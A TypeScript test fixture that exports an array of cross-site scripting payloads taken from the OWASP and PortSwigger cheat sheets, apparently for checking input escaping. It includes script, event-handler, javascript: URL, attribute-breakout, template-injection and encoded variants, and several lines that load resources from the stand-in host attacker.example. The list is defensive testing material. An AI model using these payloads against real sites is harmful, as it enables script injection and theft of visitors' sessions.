/**
 * Texts that run a script, load something or break out of an attribute if a page takes them for HTML, a URL or a template:
 * one of each kind in the XSS Filter Evasion Cheat Sheet of OWASP
 * (https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html) and in the XSS cheat sheet of
 * PortSwigger (https://portswigger.net/web-security/cross-site-scripting/cheat-sheet). Short enough for the name of a field.
 */
export const xssStrings = [
  // Script elements
  '<script>alert(1)</script>',
  '<ScRiPt/x>alert(1)</sCrIpT>',
  '<<script>alert(1)//<</script>',
  '<script>alert(1)//',
  '<script src=//attacker.example/x.js></script>',
  '<script src=data:,alert(1)></script>',
  '<svg><script>alert(1)</script></svg>',
  '<template shadowrootmode=open><script>alert(1)</script>',
  // Out of the element around it
  '</script><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</option></select><img src=x onerror=alert(1)>',
  '--><script>alert(1)</script><!--',
  ']]><script>alert(1)</script>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  // Event handlers
  '<img src=x onerror=alert(1)>',
  '<IMG/SRC="x"/ONERROR="alert(1)">',
  '<img """><img src=x onerror = alert`1`>',
  '<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;1&#41;>',
  '<svg/onload=alert(1)//',
  '<svg><animate onbegin=alert(1) attributeName=x>',
  '<body onpageshow=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<p onmouseover=alert(1) style=position:fixed;inset:0>x</p>',
  // URLs, and elements that load them
  'javascript:alert(1)',
  'JaVaScRiPt://%0aalert(1)',
  'data:text/html,<script>alert(1)</script>',
  '<a href="jav&#x0A;ascript:alert(1)">x</a>',
  '<iframe src=javascript:alert(1)></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data=javascript:alert(1)></object>',
  '<embed src=javascript:alert(1)>',
  '<form action=javascript:alert(1)><button>x</button></form>',
  '<meta http-equiv=refresh content="0;url=//attacker.example">',
  '<base href=//attacker.example/>',
  '<link rel=stylesheet href=//attacker.example/x.css>',
  '<style>@import"//attacker.example/x.css";</style>',
  // Out of an attribute, a script or a template
  '" onfocus=alert(1) autofocus x="',
  "' onmouseover='alert(1)",
  "'-alert(1)-'",
  '\\";alert(1);//',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: this is what a visitor sends
  '${alert(1)}',
  "{{constructor.constructor('alert(1)')()}}",
  // Encoded, for pages that decode once too often
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  // Names that the page itself uses
  '<form id=list><input name=token></form>',
  '__proto__',
];
